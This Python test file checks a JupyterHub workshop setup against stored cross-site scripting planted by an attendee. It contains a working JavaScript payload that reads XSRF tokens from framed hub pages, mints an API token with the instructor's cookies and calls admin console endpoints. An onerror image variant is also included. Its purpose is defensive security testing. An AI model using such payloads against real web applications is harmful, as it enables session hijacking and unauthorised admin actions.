"""An attendee tries to act as the instructor through the instructor's own browser.

Whatever an attendee's server sends under /user/NAME/ runs on the hub's origin, with the
cookies of whoever opens it: a script there can mint the visitor's API token, give attendees
new passwords or reveal solutions from the console. Mallory puts such a script everywhere she
can write (a notebook's outputs and markdown, a check's reason for the console); the
instructor then follows, in a real browser (Chromium via Playwright), every path an
instructor has to her: the console's row and its "Work" view, the hub's admin and home pages.
Nothing may happen, as the hub's token list and the console's audit log say.

The control shows the same script succeeding once a page of Mallory's reaches the browser on
the hub's origin (as the console's old "Open" did): Playwright answers one request under
/user/mallory/ with it, as her server would.
"""

from __future__ import annotations

import json
import re
import time

import pytest
import requests
from playwright.sync_api import expect, sync_playwright

from .browser import launch, screenshot
from .hub_client import Attendee
from .stack import ACCESS_CODE_OF_TESTS, ADMIN_PASSWORD_OF_TESTS, HubStack, progress

CONSOLE = "services/console/"
STOLEN_NOTE = "stolen by mallory"
# The attack, run with the visitor's cookies: the hub's XSRF token from one of its pages,
# then a token of the visitor's own (their powers, for Mallory to use), then the console's
# actions on other attendees and on the solutions.
ATTACK = """
(async () => {
  const log = (what) => { document.title = (document.title || "") + "|" + what; };
  // A page of the hub's own, framed: its document holds what a script needs (the hub's XSRF
  // token in jhdata, the console's _xsrf cookie).
  const framed = async (url) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.append(frame);
    await new Promise((done) => frame.addEventListener("load", done));
    return frame.contentWindow;
  };
  try {
    const hub = await framed("/hub/token");
    const me = await (await fetch("/hub/api/user", {credentials: "include"})).json();
    const minted = await fetch("/hub/api/users/" + me.name + "/tokens", {
      method: "POST", credentials: "include",
      headers: {"X-XSRFToken": hub.jhdata.xsrf_token, "Content-Type": "application/json"},
      body: JSON.stringify({note: "NOTE", expires_in: 600}),
    });
    log("token " + minted.status);
  } catch (error) { log("token error " + error); }
  try {
    const consolePage = await framed("/services/console/");
    const consoleXsrf = (consolePage.document.cookie.match(/_xsrf=([^;]+)/) || [])[1];
    // Aimed where the console refuses for other reasons (nobody has that name, no lab 99),
    // so the control changes nothing that other tests rely on: a 409 or 404, not a 403,
    // shows that the console took the call as the instructor's.
    for (const [path, body] of [["api/attendees/nobody-here/new-password", {}],
                                ["api/solutions", {lab: 99, revealed: true}]]) {
      const answer = await fetch("/services/console/" + path, {
        method: "POST", credentials: "include", body: JSON.stringify(body),
        headers: {"X-XSRFToken": decodeURIComponent(consoleXsrf),
                  "Content-Type": "application/json"},
      });
      log(path + " " + answer.status);
    }
  } catch (error) { log("console error " + error); }
  log("done");
})();
""".replace("NOTE", STOLEN_NOTE)
PAYLOAD = f"<script>{ATTACK}</script>"


def hostile_notebook() -> dict:
    """A notebook whose every attendee-written part carries the attack."""
    inline = f'<img src="x" onerror="{ATTACK.replace(chr(34), "&quot;")}">'
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {"title": PAYLOAD},
        "cells": [
            {"cell_type": "markdown", "id": "m1", "metadata": {}, "source": PAYLOAD + inline},
            {
                "cell_type": "code",
                "id": "c1",
                "metadata": {},
                "execution_count": 1,
                "source": "print('hello')",
                "outputs": [
                    {
                        "output_type": "display_data",
                        "metadata": {},
                        "data": {"text/html": PAYLOAD, "text/plain": "</pre>" + PAYLOAD},
                    },
                    {"output_type": "stream", "name": "stdout", "text": "</pre>" + inline},
                ],
            },
        ],
    }


@pytest.fixture(scope="module")
def mallory(hub, access_code) -> Attendee:
    attendee = Attendee(hub.url, "mallory")
    assert attendee.login(access_code).status_code == 200
    attendee.wait_until_ready()
    attendee.open_lab()
    saved = attendee.api(
        "PUT",
        "contents/hostile.ipynb",
        json={"type": "notebook", "format": "json", "content": hostile_notebook()},
    )
    assert saved.status_code in (200, 201), saved.text
    # A failing check whose reason is the attack, for the console's row.
    report = requests.post(
        f"{hub.url}/{CONSOLE}api/progress",
        headers={"Authorization": f"token {attendee.new_api_token()}"},
        json={"lab": 1, "exercise": "batch", "passed": False, "reason": PAYLOAD},
        timeout=30,
    )
    assert report.status_code == 201, report.text
    return attendee


@pytest.fixture(scope="module")
def instructor_password(hub) -> str:
    return hub.hub_exec("workshop-hub", "admin-password").stdout.split()[-1]


def instructor_session(hub, password: str) -> Attendee:
    """The instructor logged in to the hub's API, not following the login on to a server
    (with an origin per attendee, the instructor's own is a name this machine cannot
    resolve: only browsers resolve *.localhost)."""
    instructor = Attendee(hub.url, "instructor", password=password)
    instructor.http.get(f"{hub.url}/hub/login", timeout=30)
    form = {"username": "instructor", "password": password, "_xsrf": instructor._hub_xsrf()}
    answer = instructor.http.post(
        f"{hub.url}/hub/login", data=form, allow_redirects=False, timeout=30
    )
    assert answer.status_code == 302, answer.text[:300]
    return instructor


def stolen_tokens(hub, password: str) -> list[dict]:
    """The instructor's tokens that the attack minted, from the hub's database."""
    instructor = instructor_session(hub, password)
    tokens = instructor.http.get(f"{hub.url}/hub/api/users/instructor/tokens", timeout=30)
    tokens.raise_for_status()
    return [t for t in tokens.json()["api_tokens"] if t.get("note") == STOLEN_NOTE]


def revoke(hub, password: str, tokens: list[dict]) -> None:
    instructor = instructor_session(hub, password)
    for token in tokens:
        instructor.http.delete(
            f"{hub.url}/hub/api/users/instructor/tokens/{token['id']}",
            headers={"X-XSRFToken": instructor._hub_xsrf()},
            timeout=30,
        )


def audited(hub) -> list[dict]:
    text = hub.hub_exec("cat", "/srv/jupyterhub/data/console-actions.jsonl").stdout
    return [json.loads(line) for line in text.splitlines()]


def logged_in_browser(playwright, hub, password: str, hub_url: str | None = None):
    browser = launch(playwright)
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    page = context.new_page()
    # On to the hub's home page, never the instructor's own JupyterLab: whether she has a
    # server depends on the tests before, and its requests under /user/ would blur the check
    # that no page under /user/ reaches her browser.
    page.goto(f"{hub_url or hub.url}/hub/login?next=/hub/home")
    page.fill("#username_input", "instructor")
    page.fill("#password_input", password)
    page.click("#login_submit")
    page.wait_for_url(re.compile(r"/hub/home"), timeout=30_000)
    return browser, context, page


def attack_from(page, origin: str) -> str:
    """Serve Mallory's page at `origin`/user/mallory/ as her server would; what it did."""
    url = f"{origin}/user/mallory/hostile.html"
    page.route(
        url,
        lambda route: route.fulfill(
            status=200, content_type="text/html", body=f"<html><body>{PAYLOAD}</body>"
        ),
    )
    page.goto(url)
    page.wait_for_function("document.title.includes('done')", timeout=60_000)
    return page.title()


def seconds_to_jupyterlab(browser, hub_url: str, name: str, room_code: str) -> tuple[float, str]:
    """An attendee's first login in the browser, until JupyterLab shows; and where it is."""
    page = browser.new_context().new_page()
    started = time.monotonic()
    page.goto(f"{hub_url}/hub/login")
    page.fill("#username_input", name)
    page.fill("#password_input", f"{name}-own-password")
    page.fill("#room_code_input", room_code)
    page.click("#login_submit")
    page.wait_for_url(re.compile(rf"/user/{name}/lab"), timeout=180_000)
    expect(page.locator(".jp-LabShell")).to_be_visible(timeout=120_000)
    return time.monotonic() - started, page.url


def test_the_control_mallorys_page_on_the_hubs_origin_acts_as_the_instructor(
    hub, mallory, instructor_password
):
    """Proves the attack and its detection work: if a page of Mallory's reached the
    instructor's browser on the hub's origin, her script would act through the console as
    the instructor (a new password for anyone, solutions revealed)."""
    with sync_playwright() as playwright:
        browser, context, page = logged_in_browser(playwright, hub, instructor_password)
        try:
            outcome = attack_from(page, hub.url)
        finally:
            browser.close()
    revoke(hub, instructor_password, stolen_tokens(hub, instructor_password))
    # The console took both calls as the instructor's. (JupyterHub 6's own pages hold: they
    # refuse to be framed, so the script gets no XSRF token to mint one with.)
    assert "new-password 409" in outcome and "api/solutions 404" in outcome, outcome


def test_no_path_of_the_instructor_runs_mallorys_script(hub, mallory, instructor_password):
    before = len(audited(hub))
    seen_requests = []
    with sync_playwright() as playwright:
        browser, context, page = logged_in_browser(playwright, hub, instructor_password)
        context.on("request", lambda request: seen_requests.append(request))
        try:
            page.goto(f"{hub.url}/{CONSOLE}")
            page.wait_for_selector('tr[data-attendee="mallory"]', timeout=30_000)
            with context.expect_page() as opened:
                page.locator('tr[data-attendee="mallory"] a', has_text="Work").click()
            listing = opened.value
            listing.wait_for_load_state()
            assert "hostile.ipynb" in listing.inner_text("body")
            listing.get_by_text("hostile.ipynb").click()
            listing.wait_for_load_state()
            body = listing.inner_text("body")
            assert "onerror" in body and "<script>" in body, "the attack is shown as text"
            screenshot(listing, "work-view-hostile-notebook")
            for path in ("hub/admin", "hub/home", "hub/token"):
                page.goto(f"{hub.url}/{path}")
            time.sleep(5)  # as long as the attack would need to finish
            titles = [page.title(), listing.title()]
        finally:
            browser.close()
    assert not any("token" in title or "done" in title for title in titles), titles
    assert not [r.url for r in seen_requests if r.url.startswith(f"{hub.url}/user/")]
    assert not [r.url for r in seen_requests if r.method == "POST"], "a page sent a POST"
    assert stolen_tokens(hub, instructor_password) == []
    actions = [entry["action"] for entry in audited(hub)[before:]]
    assert actions and set(actions) == {"view work"}, actions


def test_with_an_origin_per_attendee_her_pages_cannot_act_as_the_instructor(
    hub, access_code, lab_images
):
    """WORKSHOP_ORIGIN_PER_ATTENDEE: Mallory's server is mallory.localhost, another origin
    than the hub's localhost, so the same page that acted through the console above gets
    nothing, even opened by the instructor. Also measures what the separation costs an
    attendee: login to JupyterLab in the browser, in this stack and in the main one."""
    stack = HubStack(
        WORKSHOP_ACCESS_CODE=ACCESS_CODE_OF_TESTS,
        WORKSHOP_ADMIN_PASSWORD=ADMIN_PASSWORD_OF_TESTS,
        WORKSHOP_ORIGIN_PER_ATTENDEE="true",
    )
    hub_url = f"http://localhost:{stack.port}"
    try:
        stack.up()
        with sync_playwright() as playwright:
            browser = launch(playwright)
            try:
                separate, landed = seconds_to_jupyterlab(
                    browser, hub_url, "mallory", ACCESS_CODE_OF_TESTS
                )
                shared, _ = seconds_to_jupyterlab(browser, hub.url, "origin-shared", access_code)
            finally:
                browser.close()
        shared_attendee = Attendee(hub.url, "origin-shared")
        assert shared_attendee.login().status_code == 200
        shared_attendee.stop_server()  # the main stack's room is shared by the other tests
        assert landed.startswith(f"http://mallory.localhost:{stack.port}/user/mallory/"), landed
        progress(
            f"login -> JupyterLab in Chromium: {separate:.1f} s with an origin per attendee, "
            f"{shared:.1f} s on the hub's origin"
        )
        with sync_playwright() as playwright:
            browser, context, page = logged_in_browser(
                playwright, stack, ADMIN_PASSWORD_OF_TESTS, hub_url
            )
            try:
                outcome = attack_from(page, f"http://mallory.localhost:{stack.port}")
            finally:
                browser.close()
        assert "token 201" not in outcome and "done" in outcome, outcome
        assert "new-password 409" not in outcome and "api/solutions 404" not in outcome
        assert stolen_tokens(stack, ADMIN_PASSWORD_OF_TESTS) == []
    finally:
        stack.down()
